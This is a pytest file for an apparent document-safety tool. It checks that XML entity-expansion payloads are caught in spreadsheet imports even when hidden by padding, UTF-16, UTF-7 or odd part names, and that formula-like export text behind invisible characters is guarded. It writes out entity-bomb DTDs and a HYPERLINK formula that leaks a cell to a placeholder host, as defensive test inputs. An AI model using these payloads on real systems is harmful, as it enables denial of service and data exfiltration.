"""The DTD scan reads what the XML parser reads: the whole part, whatever
its name, in the encoding the parser would decode it with. And text that
hides its leading '=' behind an invisible character (a byte-order mark, a
zero-width space) is guarded as a formula in every spreadsheet export."""

from __future__ import annotations

from pathlib import Path

import pytest
from hostile_files import SHEET, billion_laughs, rewrite_zip, small_workbook

from safeguard_desktop.exports.safe_text import csv_guard, is_formula_like
from safeguard_desktop.imports.safe_open import ImportFileError, check_file

_ENTITIES = '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
_BODY = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
         '<row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>')


@pytest.mark.parametrize("name,builder", [
    ("after a 70 KB comment", lambda p, w: billion_laughs(p, w, padded=True)),
    ("in UTF-16 with a byte-order mark", lambda p, w: rewrite_zip(small_workbook(w / "s.xlsx"), p, {
        SHEET: lambda _: "\ufeff".encode("utf-16-le") + f'<?xml version="1.0" encoding="UTF-16"?>{_ENTITIES}{_BODY}'
        .encode("utf-16-le")})),
    ("in UTF-16 without a byte-order mark", lambda p, w: rewrite_zip(small_workbook(w / "s.xlsx"), p, {
        SHEET: lambda _: f'<?xml version="1.0" encoding="UTF-16"?>{_ENTITIES}{_BODY}'.encode("utf-16-be")})),
    ("in a part not named .xml", lambda p, w: rewrite_zip(small_workbook(w / "s.xlsx"), p, add={
        "customXml/item1.dat": f'<?xml version="1.0"?>{_ENTITIES}<r>&b;</r>'.encode()})),
    ("declared in UTF-7", lambda p, w: rewrite_zip(small_workbook(w / "s.xlsx"), p, {
        SHEET: lambda _: b'<?xml version="1.0" encoding="UTF-7"?>' + f"{_ENTITIES}{_BODY}".replace("<", "+ADw-").encode()})),
])
def test_a_dtd_is_found_wherever_the_parser_would_find_it(name, builder, tmp_path):
    path = builder(tmp_path / "plan.xlsx", tmp_path)
    with pytest.raises(ImportFileError, match="entity declarations"):
        check_file(path)


def test_an_ordinary_workbook_still_passes_the_scan(tmp_path):
    assert check_file(small_workbook(tmp_path / "plan.xlsx")).kind == "xlsx"


@pytest.mark.parametrize("hidden", ["\ufeff", "\u200b", "\u200b\u200b", "\u2060", "\ufeff\u200b"])
@pytest.mark.parametrize("formula", ['=HYPERLINK("http://x.example/?d="&A1)', "+1+1", "@SUM(A1)", "-2+3"])
def test_formula_like_text_behind_an_invisible_character_is_guarded(hidden, formula):
    text = hidden + formula
    assert is_formula_like(text)
    assert csv_guard(text, text).startswith("'")


def test_plain_text_with_an_invisible_character_is_left_alone():
    assert not is_formula_like("\u200bTrain all staff")
    assert csv_guard("\ufeffTrain all staff", "\ufeffTrain all staff") == "\ufeffTrain all staff"
